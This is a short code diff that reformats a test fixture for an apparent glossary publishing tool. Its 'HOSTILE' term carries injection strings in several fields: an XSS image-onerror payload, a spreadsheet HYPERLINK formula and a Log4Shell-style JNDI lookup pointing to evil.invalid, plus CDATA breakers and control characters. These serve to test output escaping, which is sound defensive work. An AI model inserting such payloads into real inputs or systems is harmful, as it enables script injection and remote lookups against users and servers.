@@ -19,8 +19,8 @@ HOSTILE = Term(
     kind="metric",
     level=1,
     used_by=("sdr",),
-    definition=f"First. </p><img src=x onerror=alert(1)> ]]> & \x00 \u2028 \"quoted\" \\ \n\nsecond\t{LONG}",
-    example="=HYPERLINK(\"http://evil.invalid\")\r\nnext",
+    definition=f'First. </p><img src=x onerror=alert(1)> ]]> & \x00 \u2028 "quoted" \\ \n\nsecond\t{LONG}',
+    example='=HYPERLINK("http://evil.invalid")\r\nnext',
     usage="${jndi:ldap://evil.invalid} `code` #tag",
     formulas=(
         Formula(
@@ -36,7 +36,9 @@ HOSTILE = Term(
     ),
     confused_with=(Contrast(id="plain", difference="<b>One</b>\tis not\nthe other."),),
     related=("plain", "nowhere"),
-    translations={"zh-Hant": Translation(name="<惡意>", definition="定義「]]>」&\n第二行", aliases=("=惡",))},
+    translations={
+        "zh-Hant": Translation(name="<惡意>", definition="定義「]]>」&\n第二行", aliases=("=惡",))
+    },
     owner='Ann "A" <ann@example.com>; Bob',
     status="draft",
     replaced_by="plain",
@@ -55,6 +57,6 @@ PLAIN = Term(
 )
 PUBLICATION = Publication(
     terms=(HOSTILE, PLAIN),
-    categories=(Category(id="shelf", titles={"en": "<Shelf> & \"co\"", "zh-Hant": "架"}),),
+    categories=(Category(id="shelf", titles={"en": '<Shelf> & "co"', "zh-Hant": "架"}),),
     edition="1",
 )
